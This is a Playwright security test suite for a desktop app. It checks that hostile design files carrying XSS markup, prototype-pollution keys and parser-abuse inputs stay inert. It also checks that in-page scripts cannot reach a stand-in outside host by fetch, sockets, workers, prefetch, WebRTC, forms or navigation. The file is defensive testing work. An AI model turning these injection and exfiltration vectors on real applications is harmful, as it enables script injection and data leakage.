/** A hostile document and a hostile script in the page, against the whole program: nothing runs and nothing gets out. */
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { findChromium } from '../../scripts/find-chromium.ts'
import { NOTHING_BUT_THE_LOCAL_SERVER } from '../../src/main/no-network.ts'
import { test as base, expect, type RunningApp } from '../support/app.ts'
import { hostileDocument, injection } from '../support/hostile-document.ts'
import { type Outside, openOutside } from '../support/outside.ts'
import { Workbench } from '../support/workbench.ts'

const EXAMPLE = join(import.meta.dirname, '../../examples/cpo-8-engines.cpo.json')

interface Fixtures {
  outside: Outside
  /** What the page did that it must not: foreign requests, violations of the policy, dialogs. */
  misdeeds: string[]
}

const test = base.extend<Fixtures>({
  // biome-ignore lint: Playwright reads the fixtures from the pattern
  outside: async ({}, use) => {
    const outside = await openOutside()
    await use(outside)
    outside.close()
  },
  misdeeds: async ({ app }, use) => {
    const misdeeds: string[] = []
    const context = app.page.context()
    context.on('request', (request) => {
      const url = request.url()
      if (!url.startsWith(app.base) && !url.startsWith(`blob:${app.base}`)) misdeeds.push(`asked for ${url}`)
    })
    context.on('weberror', (error) => misdeeds.push(String(error.error())))
    context.on('console', (message) => message.type() === 'error' && misdeeds.push(message.text()))
    context.on('dialog', (dialog) => {
      misdeeds.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    await app.page.reload()
    await use(misdeeds)
  },
})

// As the desktop app and `npm start` run it.
const executablePath = findChromium()
test.use({
  launchOptions: { args: [...NOTHING_BUT_THE_LOCAL_SERVER], ...(executablePath && { executablePath }) },
})

async function open(app: RunningApp, folder: string, name: string, content: string | Uint8Array): Promise<void> {
  const path = join(folder, name)
  await writeFile(path, content)
  await app.chooseFile(path)
  await app.page.keyboard.press('Control+o')
}

/** By the search of commands, which is there in every state of the window. */
async function runCommand(page: Page, words: string): Promise<void> {
  await page.keyboard.press('Control+k')
  await page.keyboard.type(words)
  await page.keyboard.press('Enter')
}

/** What a run of an injected script would have left behind. */
const ran = (page: Page) => page.evaluate(() => Reflect.get(window, 'ran') ?? null)

/** Elements that are markup of the document's and not of the program's. */
const foreignMarkup = (page: Page) =>
  page.evaluate(() => {
    const isOwn = (element: Element) => element.matches('head > script[src^="./"], head > script[src^="/"]')
    const active = 'script, iframe, frame, object, embed, base, meta[http-equiv], foreignObject, animate, [srcdoc]'
    const found = [...document.querySelectorAll(`${active}, img, a[href], form`)].filter((element) => !isOwn(element))
    const handlers = [...document.querySelectorAll('*')].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith('on')),
    )
    const styles = [...document.querySelectorAll('[style]')].filter((element) =>
      element.getAttribute('style')?.includes('url('),
    )
    return [...found, ...handlers, ...styles].map((element) => element.outerHTML.slice(0, 200))
  })

test('a document full of scripts is shown everywhere and exported, and is only ever words', async ({
  app,
  browser,
  folder,
  outside,
  misdeeds,
}) => {
  const { page } = app
  const bench = new Workbench(page)
  const document = hostileDocument(outside.address)
  const isOnlyWords = async () => {
    expect(await foreignMarkup(page)).toEqual([])
    expect(await ran(page)).toBeNull()
    expect(misdeeds).toEqual([])
  }
  await bench.settled()
  await open(app, folder, 'hostile.cpo.json', JSON.stringify(document))
  await expect(page).toHaveTitle('hostile.cpo.json')
  await bench.settled()
  await expect(page.getByTestId('verdict-table')).toContainText('onerror="window.ran=1"')

  await test.step('every kind of component and the package itself in the inspector', async () => {
    const inspector = page.getByTestId('inspector')
    await expect(inspector).toContainText('<script>')
    await isOnlyWords()
    for (const index of [0, 1, document.components.length - 1]) {
      await page
        .getByTestId(/^component-row-/)
        .nth(index)
        .click()
      await expect(inspector).toContainText('<script>')
      await isOnlyWords()
    }
    await page.getByTestId('verdict-table').locator('tbody tr').first().hover()
  })

  await test.step('the influence matrix, the warm-up, the search, the questions', async () => {
    await bench.canvas.focus()
    await page.keyboard.press('Shift+i')
    await expect(page.getByTestId('influence-matrix')).toContainText('<script>', { timeout: 60_000 })
    await isOnlyWords()
    await page.keyboard.press('Escape')
    await runCommand(page, 'Warm-up over time')
    await expect(page.getByTestId('transient-state')).toHaveAttribute('data-state', 'solved', { timeout: 60_000 })
    await page.getByRole('button', { name: 'Show as a table' }).click()
    await expect(page.getByTestId('transient-table')).toContainText('<script>')
    await isOnlyWords()
    await page.keyboard.press('Control+k')
    await page.keyboard.type('onerror')
    await expect(page.getByRole('dialog')).toContainText('<script>')
    await isOnlyWords()
    await page.keyboard.press('Escape')
  })

  await test.step('the exports hold nothing active', async () => {
    const svg = await exported(app, folder, 'Export temperature map (SVG)', 'map.svg')
    expect(svg).toContain('&lt;script&gt;')
    const active = await page.evaluate((text) => {
      const parsed = new DOMParser().parseFromString(text, 'image/svg+xml')
      const allowed = ['svg', 'title', 'image', 'g', 'path', 'rect', 'text']
      return [...parsed.querySelectorAll('*')].flatMap((element) => [
        ...(allowed.includes(element.localName) ? [] : [element.localName]),
        ...element
          .getAttributeNames()
          .filter((name) => /^on|style|class|href/i.test(name))
          .map((name) => `${name}=${element.getAttribute(name)?.slice(0, 22)}`),
      ])
    }, svg)
    expect(active).toEqual(['href=data:image/png;base64,'])
    // Shown by itself, without the app's policy.
    const bare = await browser.newPage()
    const asked: string[] = []
    bare.on('request', (request) => void asked.push(request.url().slice(0, 22)))
    await bare.goto(`file://${join(folder, 'map.svg')}`)
    await bare.waitForTimeout(300)
    expect(await ran(bare)).toBeNull()
    expect(asked.filter((url) => !/^(file:|data:image\/png;base64)/.test(url))).toEqual([])
    await bare.close()
    const csv = await exported(app, folder, 'Export verdict table (CSV)', 'table.csv')
    expect(csv).toContain('<script>')
  })

  await test.step('a refusal quotes it', async () => {
    const refused = { ...document, fill: injection(outside.address), [injection(outside.address)]: 1 }
    await open(
      app,
      folder,
      `refused ${'<img src=x onerror=window.ran=1>'.replaceAll(/[/<>]/g, '')}.cpo.json`,
      JSON.stringify(refused),
    )
    await expect(page.getByTestId('problems')).toContainText('unknown material')
    await expect(page.getByTestId('problems')).toContainText('<img src=')
    await isOnlyWords()
  })
  expect(outside.touches).toEqual([])
})

/** Runs an export by the search of commands and returns what was written. */
async function exported(app: RunningApp, folder: string, words: string, name: string): Promise<string> {
  const path = join(folder, name)
  await app.chooseFile(path)
  await runCommand(app.page, words)
  await expect.poll(() => readFile(path, 'utf8').catch(() => '')).not.toBe('')
  return readFile(path, 'utf8')
}

test('a whole session asks for nothing but the app’s own files', async ({ app, folder, outside, misdeeds }) => {
  const { page } = app
  const bench = new Workbench(page)
  await bench.settled()
  await open(app, folder, 'session.cpo.json', await readFile(EXAMPLE))
  await expect(page).toHaveTitle('session.cpo.json')
  await bench.settled()
  await bench.select('oe-1')
  await bench.canvas.focus()
  await page.keyboard.press('ArrowRight')
  await expect(page).toHaveTitle('session.cpo.json · Edited')
  await bench.settled()
  await page.keyboard.press('Control+s')
  await expect(page).toHaveTitle('session.cpo.json')
  await bench.canvas.focus()
  await page.keyboard.press('Shift+i')
  await expect(page.getByTestId('influence-matrix')).toContainText('oe-1', { timeout: 60_000 })
  await page.keyboard.press('Escape')
  await runCommand(page, 'Warm-up over time')
  await expect(page.getByTestId('transient-state')).toHaveAttribute('data-state', 'solved', { timeout: 60_000 })
  await runCommand(page, 'About Shoreline')
  await expect(page.getByRole('dialog')).toContainText('Shoreline')
  expect(misdeeds).toEqual([])
  expect(outside.touches).toEqual([])
})

test('a script in the page reaches no network, by whatever way', async ({ app, outside }) => {
  const { page } = app
  const bench = new Workbench(page)
  await bench.settled()
  const attempts = await page.evaluate(async (address) => {
    const [http, ws] = [`http://${address}/`, `ws://${address}/`]
    const fails = async (run: () => unknown): Promise<string> => {
      try {
        await run()
        return 'went through'
      } catch {
        return 'refused'
      }
    }
    const once = (target: EventTarget) =>
      new Promise<void>((resolve, reject) => {
        for (const name of ['open', 'load']) target.addEventListener(name, () => resolve())
        for (const name of ['error', 'close']) target.addEventListener(name, () => reject(new Error(name)))
        setTimeout(() => reject(new Error('silence')), 1500)
      })
    const element = (name: string, attributes: Record<string, string>) => {
      const made = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value)
      const answered = once(made)
      document.body.append(made)
      return answered
    }
    const request = new XMLHttpRequest()
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(http),
      'fetch without reading': () => fetch(http, { mode: 'no-cors' }),
      'fetch that outlives the page': () => fetch(http, { mode: 'no-cors', keepalive: true }),
      XMLHttpRequest: () => {
        request.open('GET', http)
        request.send()
        return once(request)
      },
      WebSocket: () => once(new WebSocket(ws)),
      EventSource: () => once(new EventSource(http)),
      import: () => import(/* @vite-ignore */ `${http}module.js`),
      Worker: () => once(new Worker(`${http}worker.js`)),
      'Worker of a blob': () => once(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))),
      SharedWorker: () => once(new SharedWorker(`${http}worker.js`)),
      ServiceWorker: () => navigator.serviceWorker.register(`${http}worker.js`),
      FontFace: () => new FontFace('outside', `url(${http}font.woff2)`).load(),
      image: () => element('img', { src: `${http}image.png` }),
      script: () => element('script', { src: `${http}script.js` }),
      style: () => element('link', { rel: 'stylesheet', href: `${http}style.css` }),
      icon: () => element('link', { rel: 'icon', href: `${http}icon.png` }),
      manifest: () => element('link', { rel: 'manifest', href: `${http}manifest.json` }),
      prefetch: () => element('link', { rel: 'prefetch', href: `${http}next` }),
      preload: () => element('link', { rel: 'preload', as: 'image', href: `${http}next.png` }),
      modulepreload: () => element('link', { rel: 'modulepreload', href: `${http}next.js` }),
      preconnect: () => element('link', { rel: 'preconnect', href: http }),
      'dns-prefetch': () => element('link', { rel: 'dns-prefetch', href: '//leak.example.com' }),
      prerender: () => element('link', { rel: 'prerender', href: http }),
      'style attribute': () => element('div', { style: `background: url(${http}back.png)` }),
      audio: () => element('audio', { src: `${http}sound.ogg`, autoplay: '' }),
      video: () => element('video', { poster: `${http}poster.png`, src: `${http}film.webm` }),
      track: () => element('track', { src: `${http}words.vtt` }),
      svg: () => element('svg', { href: `${http}use.svg#a` }),
      object: () => element('object', { data: `${http}object` }),
      embed: () => element('embed', { src: `${http}embed` }),
      iframe: async () => {
        await element('iframe', { src: `${http}frame` })
        throw new Error('The error page of a refused frame loads; whether it got out is seen outside.')
      },
    }
    const results: Record<string, string> = {}
    await Promise.all(
      Object.entries(ways).map(async ([name, run]) => {
        results[name] = await fails(run)
      }),
    )
    // A beacon says that it is queued, not that it went; whether it did is seen outside.
    navigator.sendBeacon(http, 'beacon')
    const ping = document.createElement('a')
    Object.assign(ping, { href: '#', ping: http })
    ping.click()
    if (document.body.style.setProperty('--x', '1') === undefined)
      document.body.style.backgroundImage = `url(${http}css)`
    await new Promise((later) => setTimeout(later, 1000))
    return Object.entries(results).flatMap(([name, result]) => (result === 'refused' ? [] : [`${name} ${result}`]))
  }, outside.address)
  expect(attempts).toEqual([])
  for (const worker of page.workers()) {
    const inWorker = await worker.evaluate(
      (address) =>
        fetch(`http://${address}/worker`, { mode: 'no-cors' }).then(
          () => 'went through',
          () => 'refused',
        ),
      outside.address,
    )
    expect(inWorker).toBe('refused')
  }
  expect(page.workers().length).toBeGreaterThan(0)
  expect(outside.touches).toEqual([])
})

test('a call to another browser gets no datagram and no connection out', async ({ app, outside }) => {
  await app.page.evaluate(async (address) => {
    const credentials = { username: 'a', credential: 'b' }
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:${address}` },
        { urls: `turn:${address}`, ...credentials },
        { urls: `turn:${address}?transport=tcp`, ...credentials },
      ],
    })
    peer.createDataChannel('leak')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise((later) => setTimeout(later, 2500))
    peer.close()
  }, outside.address)
  expect(outside.touches).toEqual([])
})

test('what the page embeds stays empty, and what it sends as a form stays here', async ({ app, outside }) => {
  const { page } = app
  const address = page.url()
  await new Workbench(page).settled()
  await page.evaluate(async (to) => {
    const add = (name: string, attributes: Record<string, string>, inside = '') => {
      const made = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value)
      made.innerHTML = inside
      document.body.append(made)
      return made
    }
    const script = '<script>parent.ran=1;window.ran=1</script>'
    add('iframe', { srcdoc: script })
    add('iframe', { src: 'javascript:parent.ran=1' })
    add('iframe', { src: `data:text/html,${script}` })
    add('iframe', { src: URL.createObjectURL(new Blob([script], { type: 'text/html' })) })
    add('iframe', { src: `http://${to}/frame` })
    add('object', { data: `data:text/html,${script}` })
    add('embed', { src: `http://${to}/embed` })
    add('webview', { src: `http://${to}/webview`, nodeintegration: 'true', style: 'display:inline-flex' })
    add('portal', { src: `http://${to}/portal` })
    add('base', { href: `http://${to}/` })
    add('div', {}, '<img src=x onerror="window.ran=1"><svg onload="window.ran=1"></svg>')
    for (const method of ['get', 'post', 'dialog']) {
      const form = add('form', { action: `http://${to}/form`, method }, '<input name="a" value="b">') as HTMLFormElement
      form.submit()
    }
    add('form', { action: 'javascript:window.ran=1' }, '<button>x</button>').querySelector('button')?.click()
    add('a', { href: 'javascript:window.ran=1' }).click()
    await new Promise((later) => setTimeout(later, 800))
  }, outside.address)
  expect(await ran(page)).toBeNull()
  expect(page.url()).toBe(address)
  expect(new URL(await page.evaluate(() => document.baseURI)).href).toBe(address)
  expect(outside.touches).toEqual([])
})

const DEPARTURES: Readonly<Record<string, (address: string) => void>> = {
  'a link': (address) => Object.assign(document.createElement('a'), { href: address }).click(),
  'a link that opens a window': (address) =>
    Object.assign(document.createElement('a'), { href: address, target: '_blank', rel: 'noopener' }).click(),
  'a link that opens a window and holds on to it': (address) =>
    Object.assign(document.createElement('a'), { href: address, target: 'other', rel: 'opener' }).click(),
  location: (address) => void location.assign(address),
  'location that forgets': (address) => location.replace(address),
  'an entry in the history': (address) => void Object.assign(location, { href: address }),
  'meta refresh': (address) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0;url=${address}`
    document.head.append(meta)
  },
  'window.open': (address) => void window.open(address),
  'window.open with features': (address) =>
    void window.open(address, 'other', 'width=300,height=300,nodeIntegration=yes'),
  'window.open of nothing, then location': (address) => {
    const opened = window.open('about:blank')
    if (opened) opened.location.href = address
  },
  'the top of a frame': (address) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    frame.contentWindow?.open(address, '_top')
  },
}

for (const [way, leave] of Object.entries(DEPARTURES)) {
  test(`the page cannot be left by ${way}`, { tag: '@desktop' }, async ({ app, outside }) => {
    const { page } = app
    const address = page.url()
    const windows = page.context().pages().length
    await page.evaluate(leave, `http://${outside.address}/departure`).catch(() => {})
    await page.waitForTimeout(700)
    expect(page.url()).toBe(address)
    await expect.poll(() => page.context().pages().length).toBe(windows)
    await expect(page.getByTestId('verdict-table')).toBeVisible()
    expect(outside.touches).toEqual([])
  })
}

test('a script in the page is given no permission and no device', async ({ app }) => {
  const { page } = app
  // Whoever is asked for it would have said yes.
  await page.context().grantPermissions(['geolocation', 'clipboard-read', 'midi', 'camera', 'microphone'])
  const granted = await page.evaluate(async () => {
    const attempts: Record<string, () => Promise<unknown>> = {
      geolocation: () =>
        new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject, { timeout: 1500 })),
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
      microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia(),
      'clipboard-read': () => navigator.clipboard.readText(),
      midi: () => navigator.requestMIDIAccess(),
      fullscreen: () => document.body.requestFullscreen(),
      wakeLock: () => navigator.wakeLock.request('screen'),
    }
    for (const [name, method] of [
      ['usb', 'requestDevice'],
      ['hid', 'requestDevice'],
      ['serial', 'requestPort'],
      ['bluetooth', 'requestDevice'],
    ] as const) {
      const api = Reflect.get(navigator, name)
      attempts[name] = () => (api ? api[method]({ filters: [], acceptAllDevices: true }) : Promise.reject())
      attempts[`${name}, known ones`] = async () => {
        const known = await (api?.getDevices ?? api?.getPorts)?.call(api)
        if (!known || known.length === 0) throw new Error('none')
      }
    }
    const results = await Promise.all(
      Object.entries(attempts).map(async ([name, attempt]) => {
        const silence = new Promise((_resolve, reject) => setTimeout(reject, 2500))
        return Promise.race([attempt(), silence]).then(
          () => [name],
          () => [],
        )
      }),
    )
    return results.flat()
  })
  expect(granted).toEqual([])
})

test('a hostile document is refused in words or works, and the open design stays', async ({
  app,
  folder,
  misdeeds,
}) => {
  test.setTimeout(180_000)
  const { page } = app
  const bench = new Workbench(page)
  const text = await readFile(EXAMPLE, 'utf8')
  const design = JSON.parse(text)
  const engine = design.components.find(({ id }: { id: string }) => id === 'oe-1')
  const many = (count: number, step: number) =>
    Array.from({ length: count }, (_, n) => ({ ...engine, id: `c${n}`, name: 'x', x: 5 + (n % 100) * step }))
  await bench.settled()
  await open(app, folder, 'mine.cpo.json', text)
  await expect(page).toHaveTitle('mine.cpo.json')
  await bench.settled()
  await bench.select('oe-1')
  const x = await bench.field('x')

  const refused: Readonly<Record<string, readonly [content: string | Uint8Array, words: RegExp]>> = {
    'nested 100 000 deep': [`${'['.repeat(1e5)}${']'.repeat(1e5)}`, /nested more than 100 deep/],
    // The pickers of the test would not carry so much into a browser's page.
    ...(app.desktop && { '100 MB': [Buffer.alloc(100 * 1024 * 1024, 0x20), /larger than 50 MB/] as const }),
    'a long list': [
      text.replace('"components": [', `"components": [${'{},'.repeat(300_000)}`),
      /a list of 300\d+ entries/,
    ],
    'a name twice': [text.replace('{', '{"version": 1,'), /"version" a second time/],
    __proto__: [text.replace('{', '{"__proto__": {"polluted": 1},'), /"__proto__", which is not allowed/],
    'size 1e308': [text.replaceAll(/"width": [\d.]+/g, '"width": 1e308'), /1e\+308|5e\+307/],
    'beyond 1e308': [text.replace(/"width": [\d.]+/, '"width": 1e999'), /not finite/],
    NaN: [text.replace(/"width": [\d.]+/, '"width": NaN'), /is not JSON/],
    '10 000 on one place': [JSON.stringify({ ...design, components: many(10_000, 0) }), /overlaps/],
    'no text': [Uint8Array.of(0x7b, 0xff, 0xfe, 0x00), /not a UTF-8 text file/],
    'UTF-16': [Buffer.from(`\ufeff${text}`, 'utf16le'), /not a UTF-8 text file/],
  }
  for (const [name, [content, words]] of Object.entries(refused)) {
    await test.step(`refused: ${name}`, async () => {
      const start = Date.now()
      await open(app, folder, 'hostile.cpo.json', content)
      await expect(
        page
          .getByTestId('problems')
          .or(page.getByRole('alert'))
          .or(page.getByRole('status'))
          .filter({ hasText: words })
          .first(),
      ).toBeVisible({ timeout: 30_000 })
      expect(Date.now() - start).toBeLessThan(30_000)
      await expect(page).toHaveTitle('mine.cpo.json')
      expect(await bench.field('x')).toBe(x)
      await page
        .getByRole('button', { name: /Forget the refused file|Dismiss|Close/ })
        .first()
        .click({ timeout: 2000 })
        .catch(() => {})
    })
  }

  const works: Readonly<Record<string, string>> = {
    'mark.cpo.json': `\ufeff${text}`,
    'names.cpo.json': text
      .replace('{', '{"constructor": {"prototype": 1}, "prototype": 1, "toString": 1,')
      .replaceAll('"oe-1"', '"constructor"')
      .replaceAll('"oe-2"', '"__proto__"'),
    'surrogates.cpo.json': text
      .replace('"name":', '"description": "\\ud800", "name":')
      .replaceAll('"oe-3"', '"\\udfff"'),
    'long.cpo.json': text.replace('"name":', `"description": "${'\\\\'.repeat(4e6)}", "name":`),
  }
  for (const [name, content] of Object.entries(works)) {
    await test.step(`works: ${name}`, async () => {
      await open(app, folder, name, content)
      await expect(page).toHaveTitle(name, { timeout: 30_000 })
      await bench.settled()
    })
  }
  expect(await page.evaluate(() => Reflect.get({}, 'polluted') ?? null)).toBeNull()
  expect(misdeeds).toEqual([])
})
